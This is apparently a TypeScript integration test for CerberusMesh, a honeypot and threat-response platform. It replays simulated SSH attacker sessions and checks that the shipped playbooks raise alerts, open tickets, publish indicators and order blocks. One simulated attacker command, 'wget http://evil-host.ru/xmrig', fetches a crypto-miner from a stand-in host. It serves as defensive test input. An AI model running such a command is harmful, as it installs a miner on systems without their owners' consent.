import { cp, mkdtemp, readdir, readFile, rm, writeFile } from 'node:fs/promises';
import { createServer } from 'node:http';
import { connect } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { type CerberusEvent, type EventData, uuidV7 } from '@cerberusmesh/contracts';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { isPublicAddress } from '../../artefacts/public-address.ts';
import { createAuditLog } from '../../audit/audit-log.ts';
import { sampleDependencies } from '../../connectors/exporter-sample.ts';
import { exporter as jira } from '../../connectors/jira/exporter.ts';
import { exporter as slack } from '../../connectors/slack/exporter.ts';
import { startVendorServer, type VendorServer } from '../../connectors/vendor-server.ts';
import { createPostgresEventLog, type PostgresEventLog } from '../../event-log/postgres-event-log.ts';
import { createCvssAssessor } from '../../intel/cvss/cvss.ts';
import { createAllowlist, createIndicators } from '../../intel/indicators/index.ts';
import { type Pipeline, startPipeline } from '../../pipeline/pipeline.ts';
import { testConclusions } from '../../pipeline/test-conclusions.ts';
import { silentLog } from '../../storage/log.ts';
import { createTestDatabase, type TestDatabase } from '../../storage/test-database.ts';
import type { ActionOrder } from '../actions/action-executor.ts';
import { answerRun, startRun } from './engine/runs.ts';
import { PLAYBOOKS_GROUP } from './engine/triggers.ts';
import { type Playbooks, startPlaybooks } from './start-playbooks.ts';

const EXAMPLES = join(import.meta.dirname, '../../../../../examples/playbooks');
const START = Date.now() - 3_600_000;

let made = 0;
function event<Kind extends CerberusEvent['kind']>(
  session: number | null,
  kind: Kind,
  data: EventData<Kind>,
  afterMs = 0,
): CerberusEvent {
  made += 1;
  const at = new Date(START + afterMs + made).toISOString();
  const event = {
    id: uuidV7(Date.parse(at), Buffer.from(String(made).padStart(10, '0'))),
    at,
    sensorId: 'edge-1',
    trap: session === null ? null : 'ssh',
    sessionId: session === null ? null : `01990000-0000-7000-8000-0000000000${10 + session}`,
    source: session === null ? null : { address: `45.9.148.${session}`, port: 4_000 },
    destination: session === null ? null : { address: '51.15.1.1', port: 22 },
    protocol: session === null ? null : 'ssh',
    kind,
    data,
  };
  // reason: the pair of kind and data is typed by the parameters; a generic pair does not narrow to the union.
  return event as CerberusEvent;
}
const opened = (session: number) => event(session, 'session.opened', {});
const command = (session: number, input: string, afterMs = 0) =>
  event(session, 'command.entered', { input, channel: 'shell' }, afterMs);

/** Somebody who types, reads, thinks, and gets far. */
const person = (session: number) => [
  opened(session),
  event(session, 'terminal.resized', { columns: 80, rows: 24 }),
  event(session, 'terminal.resized', { columns: 120, rows: 40 }),
  ...['T1001', 'T1002', 'T1003', 'T1004', 'T1005', 'ls'].map((input, at) =>
    command(session, input, [2_000, 5_000, 40_000, 43_000, 90_000, 93_000][at]),
  ),
];

describe('the playbooks that come with CerberusMesh', () => {
  let test: TestDatabase;
  let eventLog: PostgresEventLog;
  let pipeline: Pipeline;
  let playbooks: Playbooks;
  let vendor: VendorServer;
  let directory: string;
  const orders: ActionOrder[] = [];
  const asked: string[] = [];
  const fleet = createServer((request, response) => {
    asked.push(`${request.url} ${request.headers.authorization}`);
    response.end(JSON.stringify({ items: [{ id: 'edge-1', state: 'online' }] }));
  });

  beforeAll(async () => {
    test = await createTestDatabase();
    vendor = await startVendorServer();
    vendor.play(({ url }) => {
      if (url.startsWith('/rest/api/3/search')) return { body: { issues: [] } };
      return url.startsWith('/rest/api/3/issue') ? { status: 201, body: { key: 'SEC-1' } } : { body: 'ok' };
    });
    await new Promise<void>((resolve) => fleet.listen(0, '127.0.0.1', resolve));
    const address = fleet.address();
    const port = typeof address === 'object' && address !== null ? address.port : 0;
    directory = await mkdtemp(join(tmpdir(), 'cerberus-shipped-'));
    await cp(EXAMPLES, directory, { recursive: true });
    // The fleet of this test speaks without TLS.
    const keyExposure = join(directory, 'key-exposure.yaml');
    await writeFile(keyExposure, (await readFile(keyExposure, 'utf8')).replace('https://fleet', 'http://fleet'));
    eventLog = createPostgresEventLog({ database: test.database, log: silentLog });
    pipeline = startPipeline({
      ...testConclusions,
      mapper: {
        mapEvent: (...given) => testConclusions.mapper.mapEvent(...given).map((one) => ({ ...one, confidence: 0.9 })),
      },
      eventLog,
    });
    const allowlist = createAllowlist({ entries: [], isPublicAddress, ownAddresses: () => [] });
    const network = {
      resolve: async () => ['10.0.0.7'],
      connect: () => connect({ host: '127.0.0.1', port }),
      ownAddresses: () => [],
    };
    const connected = [
      { connector: slack, settings: { enabled: true, webhookUrl: `${vendor.url}/hook` } },
      { connector: jira, settings: { enabled: true, url: vendor.url, apiToken: 'token' } },
    ].flatMap(({ connector: { name, title, notifications }, settings }) =>
      notifications === undefined
        ? []
        : [
            {
              name,
              title,
              tells: notifications.tells,
              notifier: notifications.createNotifier(settings, sampleDependencies()),
            },
          ],
    );
    playbooks = await startPlaybooks({
      settings: {
        enabled: true,
        directory,
        allowedHosts: ['127.0.0.1', 'fleet.example'],
        scripts: { enabled: false, allowUnisolated: false },
        secrets: { hub_key: 'hub key', fleet_key: 'fleet key' },
      },
      database: test.database,
      eventLog,
      network,
      connectors: {
        actions: [],
        notifiers: { connected, known: () => [] },
        streams: { connected: ['splunk'], known: ['splunk'] },
      },
      indicators: createIndicators({ database: test.database, log: eventLog, allowlist, now: Date.now }),
      feeds: { names: [], update: async () => [] },
      allowlist,
      ask: async () => [],
      assess: (type, value) => createCvssAssessor().assess(type, value),
      executor: {
        kinds: () =>
          ['block_ip', 'sensor_block', 'rotate_key', 'launch_decoy', 'insert_trap'].map((kind) => ({
            kind,
            summary: '',
          })),
        async perform(order) {
          orders.push(order);
          const { kind, ttlMs, source } = order.request;
          const plan = {
            kind,
            effect: 'write',
            details: {},
            sentence: kind,
            against: source === null ? [] : [source],
            sensors: [],
            blast: 1,
            ttlMs,
          } as const;
          return {
            actionId: uuidV7(START, Buffer.from(String(orders.length).padStart(10, '0'))),
            state: 'executed',
            plan,
            checks: [],
            detail: 'done',
            code: null,
          };
        },
        async undo() {
          throw new Error('nothing is undone here');
        },
      },
      audit: createAuditLog({ database: test.database, now: Date.now }),
      log: silentLog,
      now: Date.now,
    });
  });
  afterAll(async () => {
    await playbooks.stop();
    await pipeline.stop();
    await eventLog.stop();
    await vendor.stop();
    await test.drop();
    fleet.close();
    await rm(directory, { recursive: true });
  });

  async function tell(...events: CerberusEvent[]): Promise<void> {
    await eventLog.append(events);
    await pipeline.caughtUp(await eventLog.head());
    const head = await eventLog.head();
    while ((await eventLog.offset(PLAYBOOKS_GROUP)) < head) await new Promise((resolve) => setTimeout(resolve, 3));
  }

  /** Lets time pass and people say yes until every run has ended. */
  async function ended(): Promise<Map<string, string>> {
    for (;;) {
      const open = await test.database.query('select id from runs where ended_at is null');
      if (open.length === 0) break;
      const questions = await test.database.query(
        `select run_id, substr(key, 5) as step from run_moves where key like 'ask:%'
          and run_id in (select id from runs where ended_at is null)`,
      );
      for (const { run_id: runId, step } of questions)
        for (const person of ['ada', 'bob'])
          await answerRun(test.database, {
            runId: String(runId),
            step: String(step),
            person,
            role: 'responder',
            answer: 'approved',
          }).catch(() => {});
      await test.database.execute(`update run_moves set due_at = now() where due_at > now() and key like 'sleep:%'`);
      await test.database.execute(`update runs set due_at = now() where ended_at is null and owner is null`);
      playbooks.wake();
      await new Promise((resolve) => setTimeout(resolve, 5));
    }
    const runs = await test.database.query(
      'select playbook_id, state, error_code, error_message from runs order by id',
    );
    return new Map(
      runs.map((run) => [
        String(run.playbook_id),
        [run.state, run.error_code, run.error_message].filter(Boolean).join(' '),
      ]),
    );
  }

  it('start for real events and run to their end', async () => {
    await tell(
      opened(1),
      command(1, 'T1110'),
      opened(2),
      command(2, 'wget http://evil-host.ru/xmrig T1496'),
      opened(3),
      command(3, 'T1486'),
      event(4, 'honeytoken.used', { tokenId: 'db-password', tokenKind: 'password', paths: ['/srv/.env'], how: 'ssh' }),
      event(5, 'file.uploaded', { path: '/tmp/x', sha256: 'ab'.repeat(32), bytes: 3, via: 'sftp' }),
      ...person(6),
      opened(7),
      opened(8),
      opened(9),
      event(null, 'sensor.lost', { lastContactAt: '2026-05-01T09:59:00.000Z', silentMs: 120_000 }),
    );
    await test.database.execute(`update attackers set max_score = 0.9 where address = '45.9.148.7'`);
    await tell(
      event(7, 'attacker.updated', {
        change: 'returned',
        address: '45.9.148.7',
        visits: 4,
        activeDays: 3,
        sessionCount: 9,
        firstSeenAt: '2026-04-01T10:00:00.000Z',
        lastSeenAt: '2026-04-20T10:00:00.000Z',
        knownSince: '2026-04-01T10:00:00.000Z',
        traits: [],
        linkedAddresses: [],
      }),
      event(8, 'decision.made', {
        decisionId: '01990000-0000-7000-9000-000000000001',
        kind: 'rotate_key',
        trigger: 'keys-read',
        state: 'proposed',
        confidence: 0.9,
        score: 0.7,
        level: 4,
        stage: 'execution',
        reasons: [{ trigger: 'keys-read', text: 'a key was read' }],
        evidence: ['01990000-0000-7000-8000-000000000001'],
        alternatives: [],
        counterfactual: 'none',
        policy: { autoAction: false, threshold: 0.7, text: 'a person decides' },
        agentVersion: '1',
      }),
    );
    // Its time is six in the morning.
    await startRun(test.database, {
      playbookId: 'intel-digest',
      inputs: {},
      trigger: {},
      startedBy: 'schedule',
      dryRun: false,
      nowMs: Date.now(),
    });
    playbooks.wake();
    const states = await ended();
    const shipped = (await readdir(EXAMPLES)).map((name) => name.replace(/\.yaml$/, '')).toSorted();
    expect([...states].toSorted()).toEqual(shipped.map((id) => [id, 'succeeded']));
  });

  it('told people, opened tickets, published indicators and ordered what policy may decide', async () => {
    const told = vendor.requests.map(({ url }) => url.split('?')[0]);
    expect(told.filter((url) => url === '/hook')).toHaveLength(6);
    expect(told.filter((url) => url === '/rest/api/3/issue')).toHaveLength(3);
    expect(asked.toSorted()).toEqual(['/api/keys Bearer fleet key', '/api/v1/sensors Bearer hub key']);
    const found = await test.database.query('select type, value, sources from indicators order by type, value');
    expect(found.map(({ type, value, sources }) => `${type} ${value} ${sources}`)).toEqual([
      'domain evil-host.ru playbook:crypto-miner',
      'ipv4 45.9.148.1 playbook:credential-stuffing',
      'ipv4 45.9.148.2 playbook:crypto-miner',
      'ipv4 45.9.148.4 playbook:honeytoken-used',
      `sha256 ${'ab'.repeat(32)} playbook:new-botnet-binary`,
      'url http://evil-host.ru/xmrig playbook:crypto-miner',
    ]);
    expect(
      orders
        .map(({ request: { kind, source, sensorId, ttlMs } }) => [kind, source, sensorId, ttlMs].join(' '))
        .toSorted(),
    ).toEqual([
      'block_ip 45.9.148.3  2592000000',
      'block_ip 45.9.148.6  2592000000',
      'insert_trap 45.9.148.6 edge-1 ',
      'insert_trap 45.9.148.7 edge-1 ',
      'launch_decoy  edge-1 ',
      'rotate_key  edge-1 ',
      'rotate_key 45.9.148.8 edge-1 ',
      'sensor_block 45.9.148.3 edge-1 ',
    ]);
    const noted = (await eventLog.read(0, 1_000)).filter(({ event: { kind } }) => kind === 'run.noted');
    expect(noted.map(({ event: { data } }) => data)).toMatchObject([
      { name: 'honeytoken.used', severity: 'medium', fields: { token: 'db-password', replaced: true } },
    ]);
  });
});
